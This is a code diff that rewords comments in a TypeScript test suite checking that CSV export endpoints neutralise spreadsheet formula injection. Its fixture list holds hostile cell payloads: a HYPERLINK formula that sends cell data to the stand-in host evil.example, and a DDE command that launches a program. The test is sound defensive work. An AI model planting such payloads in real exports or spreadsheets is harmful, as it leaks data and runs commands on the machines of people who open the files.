@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startUsersServer, type UsersServer } from '#tests/support/users-server.ts';
 
-/** What spreadsheets calculate, ask other servers for, or start programs by. */
+/** Cells that make spreadsheets calculate, send requests, or start programs. */
 const formulas = [
   '=HYPERLINK("https://evil.example?"&A1,"Click")',
   `=cmd|' /C calc'!A0`,
@@ -28,7 +28,7 @@ let server: UsersServer;
 beforeAll(async () => {
   server = await startUsersServer();
   const { sql } = server.database;
-  // Past the rules of input, some of which would refuse them.
+  // Bypasses the validation of input, which would reject some.
   for (const [number, text] of formulas.entries()) {
     await sql`
       insert into repositories (name, link, description)
@@ -38,20 +38,17 @@ beforeAll(async () => {
 });
 afterAll(() => server?.stop());
 
-/** With a comma as it should be read; with others as where lists are parted by them, and no quotation mark counts. */
+/** Parsed with a comma as intended; with other delimiters as in other locales, where quotation marks do not help. */
 function cellsOf(csv: string, delimiter: string): string[] {
   if (delimiter === ',') return (parse(csv, { bom: true }) as string[][]).flat();
   return csv.split(/[\r\n]/).flatMap((line) => line.split(delimiter));
 }
 
 describe.each(['/repositories/export', '/users/export'])('in %s', (path) => {
-  it.each([',', ';', '\t'])(
-    'no cell begins with what a spreadsheet calculates, parted by %j',
-    async (delimiter) => {
-      const { body } = await server.call(server.admin, 'GET', path);
-      const cells = cellsOf(body, delimiter);
-      expect(cells.filter((cell) => cell.includes('=1+1')).length).toBeGreaterThan(5);
-      expect(cells.filter((cell) => /^["\s]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
-    },
-  );
+  it.each([',', ';', '\t'])('no cell begins with a formula, with the delimiter %j', async (delimiter) => {
+    const { body } = await server.call(server.admin, 'GET', path);
+    const cells = cellsOf(body, delimiter);
+    expect(cells.filter((cell) => cell.includes('=1+1')).length).toBeGreaterThan(5);
+    expect(cells.filter((cell) => /^["\s]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
+  });
 });
